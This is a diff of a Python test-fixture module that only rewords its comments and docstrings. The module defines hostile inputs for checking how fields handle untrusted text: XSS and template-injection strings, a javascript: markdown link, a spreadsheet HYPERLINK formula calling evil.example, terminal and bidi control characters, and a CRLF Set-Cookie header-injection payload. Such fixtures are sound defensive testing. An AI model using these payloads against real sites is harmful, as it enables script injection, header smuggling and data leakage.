@@ -1,14 +1,14 @@
-"""The worst that strangers can write, by the doors that let it through."""
+"""The worst untrusted texts that each kind of field accepts."""
 
 from typing import Final
 
-# An element and an attribute that no template of ours has: where a page has one, somebody's text became markup.
+# An element and an attribute in no template: if a page contains one, untrusted text became markup.
 MARKER: Final = "evil-x"
 MARKUP: Final = f"\"'><{MARKER} {MARKER}=1>{{{{7*7}}}}{{% raw %}}"
 SCRIPT: Final = "</script><script>evil()</script>&lt;--"
-# A letter that is written from the right: whatever holds it must be set apart from what stands beside it.
+# A letter of a right-to-left script: an element that contains it must isolate it from the text next to it.
 FROM_RIGHT: Final = "ש"
-# Printable, each with a letter or digit for its address, and as long as a bot's name may be.
+# Printable, each with a letter or digit for its slug, and as long as a bot's name may be.
 NAMES: Final = (
     MARKUP,
     SCRIPT,
@@ -19,17 +19,17 @@ NAMES: Final = (
     '=HYPERLINK("http://evil.example/?x","y")',
     "[x](javascript:evil)![x](y) **b** `c` :x",
 )
-# Through no door of a name. Of free texts most is let through, and of a bot's output all.
+# Refused in names; most are accepted in free texts, and all in a bot's output.
 CONTROLS: Final = ("\x1b[2J\x1b]0;evil\x07\x08\x7f\x85\u202e\u2066\u200f\u200b\u2028\u2029\ufeff\ufffe\uffff"
                    "\U000e0041\U0001ffff\r\nSet-Cookie: evil=1\r\n\r\n")
 UNSHOWN: Final = frozenset(CONTROLS) - {"\r", "\n", *map(chr, range(32, 127))}
 
 
 def free(limit: int) -> str:
-    """A text of that many characters with everything in it, and no place to break most of it."""
+    """Return a text of this many characters with all of these in it, mostly without line-break opportunities."""
     return (FROM_RIGHT * 3 + CONTROLS + MARKUP + SCRIPT + "".join(NAMES) + "]]>--><!--" + "W" * limit)[:limit]
 
 
 def output(size: int) -> bytes:
-    """What a bot writes: bytes that are no text, and NULs."""
+    """Return output of a bot: bytes that are not text, and NULs."""
     return (b"\x00\xff\xfe\xed\xa0\x80" + free(size).encode())[:size]
